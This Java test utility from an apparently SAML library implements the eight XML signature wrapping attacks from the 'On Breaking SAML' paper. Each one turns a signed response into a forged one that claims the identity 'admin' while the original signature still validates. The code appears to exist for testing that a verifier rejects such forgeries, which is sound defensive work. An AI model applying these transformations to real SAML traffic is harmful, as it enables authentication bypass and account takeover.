package org.preau.core.saml.testing;

import java.util.function.Consumer;
import org.preau.core.saml.xml.SamlNames;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/** The eight signature wrappings of Somorovsky et al. (On Breaking SAML, 2012): a forged part takes the place that is read, the signed one goes where only the signature finds it. */
public final class Wrapping {
    private Wrapping() {}

    /** The wrapping of that number, 1 to 8, over a sound and signed response. */
    public static Consumer<Document> number(int which) {
        return document -> {
            Element root = document.getDocumentElement();
            switch (which) {
                case 1 -> forgedResponse(document, root, true);
                case 2 -> forgedResponse(document, root, false);
                default -> forgedAssertion(document, root, which);
            }
        };
    }

    private static void forgedResponse(Document document, Element root, boolean inside) {
        Element original = (Element) root.cloneNode(true);
        Element signature = child(original, SamlNames.DSIG, "Signature");
        original.removeChild(signature);
        root.setAttribute("ID", "_evil");
        forge(root);
        Element rootSignature = child(root, SamlNames.DSIG, "Signature");
        if (inside) {
            object(document, rootSignature).appendChild(original);
        } else {
            root.insertBefore(original, rootSignature);
        }
    }

    private static void forgedAssertion(Document document, Element root, int which) {
        Element original = child(root, SamlNames.ASSERTION, "Assertion");
        Element evil = (Element) original.cloneNode(true);
        evil.setAttribute("ID", "_evil");
        forge(evil);
        Element evilSignature = child(evil, SamlNames.DSIG, "Signature");
        Element signature = child(original, SamlNames.DSIG, "Signature");
        switch (which) {
            case 3 -> {
                evil.removeChild(evilSignature);
                root.insertBefore(evil, original);
            }
            case 4 -> {
                evil.removeChild(evilSignature);
                root.replaceChild(evil, original);
                evil.appendChild(original);
            }
            case 5 -> {
                root.insertBefore(evil, original);
                original.removeChild(signature);
            }
            case 6 -> {
                root.replaceChild(evil, original);
                original.removeChild(signature);
                evilSignature.appendChild(original);
            }
            case 7 -> {
                evil.removeChild(evilSignature);
                Element extensions = document.createElementNS(SamlNames.PROTOCOL, "samlp:Extensions");
                extensions.appendChild(evil);
                root.insertBefore(extensions, root.getFirstChild());
            }
            case 8 -> {
                root.replaceChild(evil, original);
                original.removeChild(signature);
                object(document, evilSignature).appendChild(original);
            }
            default -> throw new IllegalArgumentException();
        }
    }

    private static Element object(Document document, Element signature) {
        Element object = document.createElementNS(SamlNames.DSIG, "ds:Object");
        signature.appendChild(object);
        return object;
    }

    private static void forge(Element part) {
        part.getElementsByTagNameNS(SamlNames.ASSERTION, "NameID").item(0).setTextContent("admin");
    }

    private static Element child(Element parent, String namespace, String name) {
        for (Node child = parent.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (name.equals(child.getLocalName()) && namespace.equals(child.getNamespaceURI())) {
                return (Element) child;
            }
        }
        throw new IllegalStateException("no " + name);
    }
}
